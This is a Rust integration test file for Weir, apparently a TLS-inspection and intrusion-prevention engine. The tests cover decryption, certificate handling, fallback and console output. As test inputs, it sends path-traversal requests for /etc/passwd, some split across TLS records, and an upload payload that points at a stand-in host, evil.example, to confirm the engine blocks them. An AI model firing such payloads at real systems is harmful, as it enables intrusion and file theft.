//! Weir's processes between real ends, on this machine's kernel.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use common::{connect, connect_in_pieces, lab, read_until, write_record};
use nix::sys::signal::{Signal, kill};
use rustls::pki_types::CertificateDer;
use rustls::pki_types::pem::PemObject as _;
use weir_api::console::VirtualSegmentView;
use weir_api::sight::Histogram;
use weir_lab::bench::Bench;
use weir_lab::certificates::{seen, verify_strictly};
use weir_lab::checks;
use weir_lab::document::{self, MALWARE_SID, UPLOAD_ATTACK, UPLOAD_SID};
use weir_lab::ends::{MALWARE, OWN_SERVER, sha256};
use weir_lab::fetch::Fetch;
use weir_lab::report::Evidence;
use weir_lab::wire::Wire as _;
use weir_lab::wire::lab::{FLOW_TABLE, Lab};

fn passes(check: impl FnOnce(&mut Bench<Lab>, &mut Evidence) -> anyhow::Result<()>) {
    let mut bench = lab();
    if let Err(error) = check(&mut bench, &mut Evidence) {
        panic!("{error:#}; {}", bench.wire.state());
    }
    bench.run.succeeded();
}

fn der(pem: &str) -> Vec<u8> {
    CertificateDer::from_pem_slice(pem.as_bytes()).unwrap().to_vec()
}

#[test]
fn a_benign_download_is_decrypted_inspected_and_whole() {
    passes(checks::benign_download);
}

#[test]
fn the_flow_table_has_the_size_that_the_engine_was_started_with() {
    passes(|bench, _| {
        let log = bench.wire.log()?;
        let told = log.lines().find(|line| line.contains("engine started")).unwrap();
        assert!(told.contains(&FLOW_TABLE.to_string()), "{told}");
        Ok(())
    });
}

#[test]
fn an_attack_is_blocked_and_never_reaches_the_server() {
    passes(checks::attack_blocked);
}

#[test]
fn a_domain_not_to_decrypt_keeps_its_certificate() {
    passes(checks::do_not_decrypt);
}

#[test]
fn an_untrusted_server_stays_untrusted() {
    passes(checks::untrusted_server);
}

#[test]
fn addresses_and_ports_are_the_same_on_both_sides() {
    passes(checks::transparent);
}

#[test]
fn connections_survive_a_killed_engine_and_inspection_comes_back() {
    passes(checks::engine_killed);
}

#[test]
fn a_stopped_engine_lets_new_connections_cross() {
    passes(|bench, _| {
        let document = document::weir_section(&bench.ends.certificates)?;
        bench.provision(&document::impatient(&document))?;
        let engine = bench.wire.engine()?;
        kill(engine, Signal::SIGSTOP)?;
        // Longer than the heartbeat's age at which eBPF holds nothing any more.
        std::thread::sleep(Duration::from_secs(1));
        let fetched = Fetch::new("public.example", "/").run(&bench.ends)?;
        // Supervision may have killed it by its watchdog meanwhile.
        let _ = kill(engine, Signal::SIGCONT);
        fetched.succeeded()?;
        assert!(checks::is_own(&bench.ends.certificates, &fetched.certificate()?)?);
        bench.wait_for_inspection().map(drop)
    });
}

#[test]
fn forced_fallback_lets_new_connections_cross_until_it_is_lifted() {
    passes(|bench, _| {
        bench.wire.console("high-availability force fallback")?;
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let fetched = Fetch::new("public.example", "/").run(&bench.ends)?;
            fetched.succeeded()?;
            if checks::is_own(&bench.ends.certificates, &fetched.certificate()?)? {
                break;
            }
            assert!(Instant::now() < deadline, "still inspected after fallback was forced");
        }
        bench.wire.console("high-availability force normal")?;
        bench.wait_for_inspection().map(drop)
    });
}

#[test]
fn server_inspection_answers_with_the_servers_own_key_by_server_name() {
    passes(|bench, evidence| {
        let own = [
            ("shop.example", bench.ends.certificates.shop.clone()),
            ("wholesale.example", bench.ends.certificates.wholesale.clone()),
        ];
        for (name, identity) in own {
            let fetched = Fetch::new(name, "/").own_server().run(&bench.ends)?;
            fetched.succeeded()?;
            assert_eq!(fetched.certificate()?, seen(&identity.certificate_pem()?)?, "{name}");
            let row = checks::row_on_console(
                bench,
                evidence,
                "show sessions",
                &format!("10.66.0.1:{} ", fetched.port),
            )?;
            assert!(row.contains("decrypted and inspected"), "{row}");
        }
        let attack = Fetch::new("shop.example", "/?f=/etc/passwd").own_server().run(&bench.ends)?;
        assert_ne!(attack.exit, 0, "the attack got through");
        assert!(!bench.ends.access_log()?.contains("passwd"));
        Ok(())
    });
}

#[test]
fn a_forged_certificate_passes_the_strictest_verification() {
    passes(|bench, _| {
        let fetched = Fetch::new("public.example", "/").run(&bench.ends)?;
        fetched.succeeded()?;
        checks::ensure_signed_by_weir(&fetched)?;
        let anchors = bench.ends.certificates.signing_ca.certificate.clone();
        verify_strictly(&fetched.chain, &anchors, &bench.run.path("shown.pem"))
    });
}

#[test]
fn both_tls_versions_are_inspected() {
    passes(|bench, _| {
        for (option, version) in [("--tls-max", "1.2"), ("--tlsv1.3", "1.3")] {
            let arguments: &[&str] =
                if option == "--tls-max" { &["-v", option, version] } else { &["-v", option] };
            let fetched =
                Fetch::new("public.example", "/").arguments(arguments).run(&bench.ends)?;
            fetched.succeeded()?;
            checks::ensure_signed_by_weir(&fetched)?;
            let wanted = format!("SSL connection using TLSv{version}");
            assert!(fetched.messages.contains(&wanted), "{}", fetched.messages);
        }
        Ok(())
    });
}

#[test]
fn the_post_quantum_group_is_negotiated_with_a_client_that_has_it() {
    passes(|bench, _| {
        let tls = connect(&bench.ends, "public.example");
        let group = tls.conn.negotiated_key_exchange_group().unwrap().name();
        assert_eq!(group, rustls::NamedGroup::X25519MLKEM768);
        Ok(())
    });
}

/// Longer than a hello is held: the flow is taken over before it is judged (SPEC D12).
#[test]
fn a_hello_in_late_pieces_is_judged_all_the_same() {
    passes(|bench, evidence| {
        let tls = connect_in_pieces(&bench.ends, "public.example", &[1, 40, 300]);
        let shown = tls.conn.peer_certificates().unwrap()[0].to_vec();
        assert_ne!(shown, der(&bench.ends.certificates.public.certificate_pem()?));

        let mut tls = connect_in_pieces(&bench.ends, "bank.example", &[1, 40, 300]);
        let shown = tls.conn.peer_certificates().unwrap()[0].to_vec();
        assert_eq!(shown, der(&bench.ends.certificates.bank.certificate_pem()?));
        write_record(
            &mut tls,
            b"GET / HTTP/1.1\r\nHost: bank.example\r\nConnection: close\r\n\r\n",
        )?;
        let (answer, end) = read_until(&mut tls, "\0never", 1);
        end?;
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        let port = tls.sock.local_addr()?.port();
        drop(tls); // a session is told when it ended
        let flow = format!("10.66.0.1:{port} ");
        let row = checks::row_on_console(bench, evidence, "show sessions", &flow)?;
        assert!(row.contains("not decrypted (domain exception)"), "{row}");
        Ok(())
    });
}

/// Servers in use pass over empty records: what is behind one must not pass by uninspected.
#[test]
fn an_empty_record_hides_no_hello_from_a_server_proxy() {
    passes(|bench, _| {
        let mut stream = bench.ends.connect_from_client(SocketAddr::from((OWN_SERVER, 443)))?;
        stream.write_all(&[0x16, 3, 1, 0, 0])?;
        let directory = env!("CARGO_MANIFEST_DIR");
        let seed = format!("{directory}/../fuzz/seeds/client_hello/openssl-3.0-tls13.bin");
        stream.write_all(&std::fs::read(seed)?)?;
        // Taken over, and refused by the stack: an alert (or a reset), never the server's answer.
        let mut answer = [0; 5];
        if let Ok(5) = stream.read(&mut answer) {
            assert_eq!(answer[0], 21, "not an alert: {answer:?}");
        }
        Ok(())
    });
}

#[test]
fn an_attack_split_over_records_is_blocked() {
    passes(|bench, _| {
        let mut tls = connect(&bench.ends, "public.example");
        write_record(&mut tls, b"GET /?split=../../etc/pas")?;
        std::thread::sleep(Duration::from_millis(100));
        write_record(&mut tls, b"swd HTTP/1.1\r\nHost: public.example\r\n\r\n")?;
        let (answer, _) = read_until(&mut tls, "\r\n\r\n", 1);
        assert_eq!(answer, "", "the attack was answered");
        assert!(!bench.ends.access_log()?.contains("split"));
        Ok(())
    });
}

#[test]
fn an_attack_in_an_upload_split_over_records_is_blocked() {
    passes(|bench, evidence| {
        let mut tls = connect(&bench.ends, "public.example");
        let body = format!("field={UPLOAD_ATTACK}evil.example/a}}");
        let (first, second) = body.split_at(14);
        let length = body.len();
        let head = format!(
            "PUT /upload/attack HTTP/1.1\r\nHost: public.example\r\nContent-Length: {length}\r\n\r\n"
        );
        write_record(&mut tls, head.as_bytes())?;
        write_record(&mut tls, first.as_bytes())?;
        std::thread::sleep(Duration::from_millis(100));
        write_record(&mut tls, second.as_bytes())?;
        let (answer, _) = read_until(&mut tls, "\r\n\r\n", 1);
        assert_eq!(answer, "", "the attack was answered");
        assert!(!bench.ends.served("upload/attack").exists(), "the upload was stored");
        checks::row_on_console(bench, evidence, "show events", &UPLOAD_SID.to_string())?;
        Ok(())
    });
}

#[test]
fn malware_in_a_response_never_arrives_whole() {
    passes(|bench, evidence| {
        let fetched = Fetch::new("public.example", "/malware.txt").run(&bench.ends)?;
        assert_ne!(fetched.exit, 0, "the response got through");
        let body = std::fs::read_to_string(&fetched.body).unwrap_or_default();
        assert!(!body.contains(MALWARE), "{body}");
        checks::row_on_console(bench, evidence, "show events", &MALWARE_SID.to_string())?;
        Ok(())
    });
}

#[test]
fn a_large_upload_arrives_whole() {
    passes(|bench, _| {
        let source = bench.ends.served("random.bin");
        let upload = ["--upload-file", source.to_str().unwrap()];
        let fetched = Fetch::new("public.example", "/upload/random.bin")
            .arguments(&upload)
            .limit(120)
            .run(&bench.ends)?;
        fetched.succeeded()?;
        checks::ensure_signed_by_weir(&fetched)?;
        assert_eq!(sha256(&source)?, sha256(&bench.ends.served("upload/random.bin"))?);
        Ok(())
    });
}

#[test]
fn fifty_connections_at_once_are_all_inspected() {
    passes(|bench, _| {
        let ends = &bench.ends;
        let wanted = sha256(&ends.served("index.html"))?;
        let fetched: Vec<_> = std::thread::scope(|scope| {
            let fetches: Vec<_> = (0..50)
                .map(|number| {
                    scope.spawn(move || {
                        Fetch::new("public.example", "/")
                            .limit(60)
                            .run_into(ends, &format!("parallel-{number}"))
                    })
                })
                .collect();
            fetches.into_iter().map(|fetch| fetch.join().unwrap().unwrap()).collect()
        });
        for fetched in fetched {
            fetched.succeeded()?;
            checks::ensure_signed_by_weir(&fetched)?;
            assert_eq!(sha256(&fetched.body)?, wanted);
        }
        Ok(())
    });
}

#[test]
fn a_connection_serves_one_request_after_another() {
    passes(|bench, _| {
        let request = b"GET / HTTP/1.1\r\nHost: public.example\r\n\r\n";
        let page = std::fs::read_to_string(bench.ends.served("index.html"))?;
        let mut tls = connect(&bench.ends, "public.example");
        for _ in 0..2 {
            write_record(&mut tls, request)?;
            let (answer, end) = read_until(&mut tls, page.trim_end(), 1);
            end?;
            assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        }
        Ok(())
    });
}

#[test]
fn pipelined_requests_are_answered_in_order_up_to_the_attack() {
    passes(|bench, _| {
        let page = std::fs::read_to_string(bench.ends.served("index.html"))?;
        let request =
            |target: &str| format!("GET {target} HTTP/1.1\r\nHost: public.example\r\n\r\n");
        let mut tls = connect(&bench.ends, "public.example");
        write_record(&mut tls, (request("/?n=1") + &request("/?n=2")).as_bytes())?;
        let (answers, end) = read_until(&mut tls, page.trim_end(), 2);
        end?;
        assert_eq!(answers.matches("HTTP/1.1 200").count(), 2, "{answers}");

        let mut tls = connect(&bench.ends, "public.example");
        write_record(&mut tls, (request("/?n=3") + &request("/?n=/etc/passwd")).as_bytes())?;
        let (answers, _) = read_until(&mut tls, page.trim_end(), 2);
        assert!(answers.matches("HTTP/1.1 200").count() <= 1, "{answers}");
        assert!(!bench.ends.access_log()?.contains("passwd"));
        Ok(())
    });
}

#[test]
fn a_bad_configuration_is_refused_and_a_good_one_taken_while_traffic_goes_on() {
    passes(|bench, _| {
        let good = document::weir_section(&bench.ends.certificates)?;
        bench
            .wire
            .configure(&good.replace("detection-ports: [\"443\"]", "detection-ports: [\"44x\"]"))?;
        let deadline = Instant::now() + Duration::from_secs(20);
        while !bench.wire.log()?.contains("44x") {
            assert!(Instant::now() < deadline, "the agent does not name the bad port");
            std::thread::sleep(Duration::from_millis(100));
        }
        let fetched = Fetch::new("public.example", "/").run(&bench.ends)?;
        fetched.succeeded()?;
        checks::ensure_signed_by_weir(&fetched)?;

        bench
            .wire
            .configure(&good.replace("\"bank.example\"", "\"bank.example\", \"public.example\""))?;
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let fetched = Fetch::new("public.example", "/").run(&bench.ends)?;
            fetched.succeeded()?;
            if checks::is_own(&bench.ends.certificates, &fetched.certificate()?)? {
                return Ok(());
            }
            assert!(Instant::now() < deadline, "the new exception is not in force");
        }
    });
}

#[test]
fn a_virtual_segment_tells_of_its_own_holds_and_takeovers() {
    passes(|bench, _| {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let told = bench.wire.console("show virtual-segments all json")?;
            let views: Vec<VirtualSegmentView> = serde_json::from_str(&told)?;
            let counted = &views[0].counted;
            let taken = counted.counters.iter().find(|(name, _)| name == "flow_taken_over");
            let times = [&counted.hold_time, &counted.take_over_time].map(Histogram::count);
            if taken.is_some_and(|(_, count)| *count > 0) && times.iter().all(|flows| *flows > 0) {
                return Ok(());
            }
            assert!(Instant::now() < deadline, "{told}");
            std::thread::sleep(Duration::from_millis(100));
        }
    });
}

#[test]
fn every_show_command_fits_eighty_columns_and_tells_no_key() {
    passes(|bench, _| {
        Fetch::new("public.example", "/").run(&bench.ends)?.succeeded()?;
        Fetch::new("public.example", "/?f=/etc/passwd").run(&bench.ends)?;
        let what = [
            "version",
            "health",
            "segments",
            "tls-inspection",
            "tls-inspection log",
            "sessions",
            "sessions detail",
            "events",
            "configuration",
            "high-availability",
            "virtual-segments",
            "virtual-segments all detail",
            "captures",
            "quarantine",
            "traffic-filters",
            "inspection-bypass",
            "reputation",
            "reputation 10.66.0.2",
        ];
        for what in what {
            let text = bench.wire.console(&format!("show {what}"))?;
            assert!(!text.trim().is_empty(), "show {what}");
            assert!(!text.contains("PRIVATE KEY"), "show {what}");
            for line in text.lines() {
                assert!(line.chars().count() <= 80, "show {what}: {line}");
            }
        }
        for what in ["npSslInspStats", "npSslInspProtocolStats", "npTcpProxyStats"] {
            let text = bench.wire.console(&format!("debug np stats show {what}"))?;
            assert!(!text.trim().is_empty(), "{what}");
            assert!(text.lines().all(|line| line.chars().count() <= 80), "{text}");
        }
        assert!(bench.wire.console("show configuration")?.contains("bank.example"));
        let wrong = bench.wire.console("show nothing").unwrap_err().to_string();
        assert!(wrong.contains("sessions"), "{wrong}");
        Ok(())
    });
}
